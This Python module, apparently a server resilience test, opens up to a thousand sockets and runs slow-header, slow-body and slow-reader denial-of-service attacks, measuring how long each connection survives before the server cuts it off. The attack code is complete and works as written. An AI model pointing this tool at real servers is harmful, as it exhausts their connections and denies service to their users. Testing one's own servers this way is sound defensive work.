"""Clients that take their time: a thousand sockets in one thread."""

import contextlib
import selectors
import socket
import time
from dataclasses import dataclass

EVERY = 6


@dataclass
class Attack:
    """What an attacker sends first, what it sends every six seconds, and whether it reads."""

    name: str
    deadline: float
    first: bytes
    drip: bytes
    floods: bool = False


SLOW_HEADERS = Attack("slow headers", 12, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-Slow: 1\r\n")
SLOW_BODIES = Attack(
    "slow bodies", 35, b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 300\r\n\r\n{", b" ")
SLOW_READERS = Attack("slow readers", 35, b"", b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200, floods=True)


class Attacker:
    def __init__(self, attack, address):
        self.attack = attack
        self.socket = socket.socket()
        if attack.floods:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        self.socket.settimeout(10)
        self.socket.connect(address)
        self.socket.setblocking(False)
        self.began = time.monotonic()
        self.next = self.began + EVERY
        self.unsent = b""
        self.send(attack.first)

    def send(self, data):
        with contextlib.suppress(BlockingIOError):
            self.unsent = (self.unsent or data)[self.socket.send(self.unsent or data):]

    def step(self, events):
        """One thing at a time; false when the server has ended the connection."""
        try:
            if self.attack.floods:
                return self.flood(events)
            if events and not self.socket.recv(4096):
                return False
            if time.monotonic() >= self.next:
                self.next += EVERY
                self.send(self.attack.drip)
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def flood(self, events):
        """Sends as much as is taken, and reads a few bytes in six seconds."""
        if events & selectors.EVENT_WRITE:
            self.send(self.attack.drip)
        if time.monotonic() >= self.next:
            self.next += EVERY
            return bool(self.socket.recv(16))
        return True


def attack(kind, address, count):
    """Lets `count` attackers loose and answers how long each held out, and how many still do at the end."""
    lives = []
    with contextlib.ExitStack() as stack:
        selector = stack.enter_context(selectors.DefaultSelector())
        alive = set()
        for _ in range(count):
            attacker = Attacker(kind, address)
            stack.callback(attacker.socket.close)
            selector.register(attacker.socket, selectors.EVENT_READ, attacker)
            alive.add(attacker)
        if kind.floods:
            for attacker in alive:
                # Whether the server still takes bytes is all that a reader of nothing can learn.
                selector.modify(attacker.socket, selectors.EVENT_WRITE, attacker)
        end = time.monotonic() + kind.deadline + 10
        while alive and time.monotonic() < end:
            events = {key.data: mask for key, mask in selector.select(0.1)}
            idle = [attacker for attacker in alive if time.monotonic() >= attacker.next]
            for attacker in {*events, *idle}:
                if not attacker.step(events.get(attacker, 0)):
                    lives.append(time.monotonic() - attacker.began)
                    selector.unregister(attacker.socket)
                    attacker.socket.close()
                    alive.discard(attacker)
        return lives, len(alive)
